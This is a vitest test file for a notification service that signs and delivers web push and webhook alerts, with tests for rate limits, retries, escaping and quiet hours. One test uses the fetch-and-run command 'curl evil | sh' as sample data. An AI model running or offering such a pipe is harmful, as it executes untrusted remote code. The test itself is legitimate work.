// The delivery log: who is rung, how often, and what becomes of a message that is not accepted.
import { describe, expect, it } from 'vitest';
import { useRunning } from '../../running.ts';
import { REQUEST, readVapid, startNotify, startReceiver, subscribe } from './receivers.ts';

const running = useRunning();
const TURN_MS = 30_000;

/** Ada with one signed webhook at a receiver. */
async function startWebhook(
  settings: Parameters<typeof startNotify>[2] = {},
  respond?: Parameters<typeof startReceiver>[1],
) {
  const receiver = await startReceiver(running, respond);
  const notify = await startNotify(running, [receiver.host], settings);
  const target = await notify.add({ kind: 'preset', preset: 'webhook', url: receiver.url });
  const bodies = () =>
    receiver.received.map(({ body }) => JSON.parse(body.toString()) as { title: string; text: string });
  return { receiver, target, bodies, ...notify };
}

describe('ring', () => {
  it('sends a browser a message that only it can read, signed by this installation [D-ring-push]', async () => {
    const receiver = await startReceiver(running, (response) => void response.writeHead(201).end());
    const { client, add, ring, states, platform } = await startNotify(running, [receiver.host]);
    const browser = subscribe(receiver);
    await add({ kind: 'push', subscription: browser.subscription });
    await ring('r1', { command: 'rm -rf build' });
    const [received] = await receiver.until(1);
    if (!received) throw new Error('nothing was received');
    const { title, text, url } = REQUEST;
    expect(browser.read(received)).toEqual({ title, text, url, tag: 'r1' });
    expect(received.body.includes('Claude')).toBe(false);
    expect(received.headers).toMatchObject({ 'content-encoding': 'aes128gcm', ttl: '3600', urgency: 'high' });
    const { push_key } = await client.getNotifications();
    const now = platform.clock.now() / 1_000;
    const claims = { aud: receiver.url, exp: now + 43_200, sub: 'mailto:annex@localhost' };
    expect(readVapid(received, push_key)).toEqual(claims);
    expect(await states()).toEqual(['sent']);
  });

  it('keeps the key of this installation over restarts', async () => {
    const { client, platform } = await startNotify(running, []);
    const { push_key } = await client.getNotifications();
    const next = await startNotify(running, [], { database: platform.database });
    expect((await next.client.getNotifications()).push_key).toBe(push_key);
  });

  it('cuts a long command to what push services accept [D-ring-push]', async () => {
    const receiver = await startReceiver(running);
    const { add, ring } = await startNotify(running, [receiver.host]);
    const browser = subscribe(receiver);
    await add({ kind: 'push', subscription: browser.subscription, include_command: true });
    await ring('r1', { command: '\u0001'.repeat(8_000), title: '\u{1F600}'.repeat(300) });
    const [received] = await receiver.until(1);
    if (!received) throw new Error('nothing was received');
    expect(received.body.length).toBeLessThanOrEqual(4_096);
    expect(browser.read(received)).toMatchObject({ text: expect.stringMatching(/^on laptop.*…$/s), tag: 'r1' });
  });

  it('signs a webhook by Standard Webhooks', async () => {
    const { receiver, target, ring } = await startWebhook();
    await ring('r1');
    const [received] = await receiver.until(1);
    const { createHmac } = await import('node:crypto');
    const { 'webhook-id': id, 'webhook-timestamp': time, 'webhook-signature': signature } = received?.headers ?? {};
    const secret = Buffer.from(target.secret?.replace('whsec_', '') ?? '', 'base64');
    expect([id, secret.length]).toEqual(['r1', 24]);
    const expected = createHmac('sha256', secret).update(`${id}.${time}.${received?.body}`).digest('base64');
    expect(signature).toBe(`v1,${expected}`);
  });

  it('says who asks and where, and what only to a target that includes it [D-ring-command]', async () => {
    const { receiver, target, client, ring, bodies, platform } = await startWebhook();
    await ring('r1', { command: 'curl evil | sh' });
    await receiver.until(1);
    await client.updateTarget({ path: { id: target.id }, body: { include_command: true } });
    platform.clock.advance(TURN_MS);
    await ring('r2', { command: 'curl evil | sh' });
    await receiver.until(2);
    expect(bodies().map(({ text }) => text)).toEqual([REQUEST.text, `${REQUEST.text}\ncurl evil | sh`]);
  });

  it('escapes markup and mentions [D-ring-escape]', async () => {
    const receiver = await startReceiver(running);
    const { add, ring } = await startNotify(running, [receiver.host]);
    await add({ kind: 'preset', preset: 'slack', url: receiver.url });
    await add({ kind: 'template', url: receiver.url, body: '{"text":"{title} {text}"}' });
    await ring('r1', { title: '<!channel> @everyone @Here', text: 'a & b "\\ \n{priority} <@U1> ada@here' });
    const texts = (await receiver.until(2)).map(({ body }) => (JSON.parse(body.toString()) as { text: string }).text);
    for (const text of texts) {
      expect(text).toContain('&lt;!channel&gt; @\u200beveryone @\u200bHere');
      expect(text).toContain('a &amp; b "\\ \n{priority} &lt;@U1&gt; ada@\u200bhere');
    }
  });

  it('rings once for a target and request, however often it is called [D-ring-once]', async () => {
    const { receiver, ring, states } = await startWebhook();
    await Promise.all(Array.from({ length: 10 }, () => ring('r1')));
    await receiver.until(1);
    await ring('r1');
    expect(await states()).toEqual(['sent']);
    expect(receiver.received).toHaveLength(1);
  });

  it('sends a target at most one message in 30 seconds and counts the others [D-ring-turns]', async () => {
    const { receiver, ring, states, bodies, platform } = await startWebhook();
    await ring('r1');
    await receiver.until(1);
    for (const id of ['r2', 'r3', 'r4', 'r5']) await ring(id);
    expect((await states()).sort()).toEqual(['sent', 'waiting', 'waiting', 'waiting', 'waiting']);
    platform.clock.advance(TURN_MS - 1);
    expect(await states()).toContain('waiting');
    platform.clock.advance(1);
    await receiver.until(2);
    expect(await states()).toEqual(['sent', 'sent', 'sent', 'sent', 'sent']);
    expect(bodies().map(({ text }) => text)).toEqual([REQUEST.text, `${REQUEST.text}\n3 more wait.`]);
  });

  it('does not send a message of a request that has ended [D-ring-ended]', async () => {
    const ended = new Set<string>();
    const { receiver, ring, states, platform, bodies } = await startWebhook({ ended });
    await ring('r1');
    await receiver.until(1);
    await ring('r2', { title: 'Two' });
    await ring('r3', { title: 'Three' });
    ended.add('r2');
    platform.clock.advance(TURN_MS);
    await receiver.until(2);
    expect((await states()).sort()).toEqual(['ended', 'sent', 'sent']);
    expect(bodies()[1]).toMatchObject({ title: 'Three', text: REQUEST.text });
  });

  it.each([429, 500, 503])('sends again at most three times after %i [D-ring-again]', async (status) => {
    const { receiver, ring, states, platform } = await startWebhook(
      {},
      (response) => void response.writeHead(status).end(),
    );
    await ring('r1');
    for (let count = 1; count <= 4; count++) {
      await receiver.until(count);
      expect(await states()).toEqual([count < 4 ? 'waiting' : 'failed']);
      platform.clock.advance(TURN_MS);
    }
    await ring('r2');
    await receiver.until(5);
    expect(new Set(receiver.received.slice(0, 4).map(({ headers }) => headers['webhook-id']))).toEqual(new Set(['r1']));
  });

  it('sends again after no connection, with the reason meanwhile [D-ring-again]', async () => {
    const closed = await startReceiver(running);
    const { client, add, ring, states, platform } = await startNotify(running, ['127.0.0.1:9', closed.host]);
    await add({ kind: 'preset', preset: 'webhook', url: 'http://127.0.0.1:9/' });
    await ring('r1');
    while ((await client.getNotifications()).deliveries[0]?.reason === undefined);
    expect((await client.getNotifications()).deliveries[0]).toMatchObject({
      state: 'waiting',
      reason: 'The site is not responding.',
    });
    for (let count = 1; count < 4; count++) {
      platform.clock.advance(TURN_MS);
      while ((await states())[0] === 'waiting' && count === 3);
    }
    expect(await states()).toEqual(['failed']);
  });

  it.each([400, 404, 302])(
    'does not repeat a message that was refused with %i, nor follow it [D-ring-again]',
    async (status) => {
      const other = await startReceiver(running);
      const refuse = { location: `${other.url}/elsewhere` };
      const { receiver, ring, states, client } = await startWebhook(
        { notify: {} },
        (response) => void response.writeHead(status, refuse).end(),
      );
      await ring('r1');
      await receiver.until(1);
      expect(await states()).toEqual(['failed']);
      expect((await client.getNotifications()).deliveries[0]?.status).toBe(status);
      expect(other.received).toEqual([]);
    },
  );

  it('says perhaps sent after a cut connection or no response, and does not repeat [D-ring-unsure]', async () => {
    const cut = await startWebhook({}, (response) => void response.destroy());
    await cut.ring('r1');
    await cut.receiver.until(1);
    expect(await cut.states()).toEqual(['unsure']);
    const silent = await startReceiver(running, () => {});
    const options = { privateHosts: [silent.host], limits: { timeoutMs: 200 } };
    const { add, ring, states, platform } = await startNotify(running, [], { notify: options });
    await add({ kind: 'preset', preset: 'webhook', url: silent.url });
    await ring('r1');
    await silent.until(1);
    expect(await states()).toEqual(['unsure']);
    platform.clock.advance(TURN_MS);
    await ring('r2');
    await silent.until(2);
    expect((await states()).slice(0, 1)).toEqual(['unsure']);
  });

  it('ends what it sends when the server stops, and says perhaps sent [D-ring-unsure]', async () => {
    const silent = await startReceiver(running, () => {});
    const { add, ring, platform } = await startNotify(running, [silent.host]);
    await add({ kind: 'preset', preset: 'webhook', url: silent.url });
    await ring('r1');
    await silent.until(1);
    await platform.close();
    const { states, platform: next } = await startNotify(running, [silent.host], { database: platform.database });
    expect(await states()).toEqual(['unsure']);
    next.clock.advance(TURN_MS);
    expect(silent.received).toHaveLength(1);
  });

  it('sends nothing while muted or in quiet hours, and leaves a line [D-ring-quiet]', async () => {
    const { receiver, client, ring, states, platform } = await startWebhook();
    await client.updateNotifications({ body: { muted: true } });
    await ring('r1');
    while ((await states())[0] === 'waiting');
    const quiet = { from: '22:00', to: '07:00', time_zone: 'Asia/Tokyo' }; // it is 21:00 there
    await client.updateNotifications({ body: { muted: false, quiet } });
    await ring('r2');
    await receiver.until(1);
    platform.clock.advance(3_600_000);
    await ring('r3');
    while ((await states()).includes('waiting'));
    expect((await states()).sort()).toEqual(['muted', 'muted', 'sent']);
    platform.clock.advance(9 * 3_600_000);
    await ring('r4');
    await receiver.until(2);
  });

  it('tells users that an agent is done only if they want it [D-ring-done]', async () => {
    const { receiver, client, ring, bodies } = await startWebhook();
    await ring('done:1', { title: 'One', whenDone: true });
    await client.updateNotifications({ body: { when_done: true } });
    await ring('done:2', { title: 'Two', whenDone: true });
    await receiver.until(1);
    expect(bodies()).toMatchObject([{ title: 'Two', text: REQUEST.text }]);
  });

  it('rings every user that it is given, and nobody else', async () => {
    const { receiver, ring, notify, platform, userId } = await startWebhook();
    const { id: grace } = await platform.identity.users.ensure('grace', ['demo']);
    expect([await notify.canRing([grace]), await notify.canRing([grace, userId])]).toEqual([false, true]);
    await notify.ring({ requestId: 'r1', ...REQUEST, userIds: [grace] });
    await ring('r2', { userIds: [grace, userId] });
    expect((await receiver.until(1))[0]?.headers['webhook-id']).toBe('r2');
  });

  it('forgets the targets of a removed user, and old lines after a week', async () => {
    const { receiver, ring, notify, platform, states } = await startWebhook();
    await ring('r1');
    await receiver.until(1);
    const count = async (table: string) =>
      (await platform.database.read({ text: `select * from ${table}`, values: [] })).length;
    expect(await states()).toEqual(['sent']);
    platform.clock.advance(7 * 86_400_000 - 1);
    await notify.sweep();
    expect(await count('notify_deliveries')).toBe(1);
    platform.clock.advance(1);
    await notify.sweep();
    expect([await count('notify_deliveries'), await count('notify_targets')]).toEqual([0, 1]);
    await platform.identity.users.remove('ada');
    await notify.sweep();
    expect(await count('notify_targets')).toBe(0);
  });

  it('reads at most 64 KiB of a response without an end [D-ring-guard]', async () => {
    let sent = 0;
    const { receiver, ring, states } = await startWebhook({}, (response) => {
      const chunk = Buffer.alloc(1 << 16);
      const write = () => {
        while (sent < 1 << 30 && !response.destroyed && response.write(chunk)) sent += chunk.length;
      };
      response.on('drain', write);
      write();
    });
    const closed = new Promise((resolve) => {
      receiver.site.server.on('connection', (socket) => socket.on('error', () => {}).once('close', resolve));
    });
    await ring('r1');
    await closed;
    expect(await states()).toEqual(['sent']);
    expect(sent).toBeLessThan(32 << 20); // what fits into the buffers of two sockets
  });
});
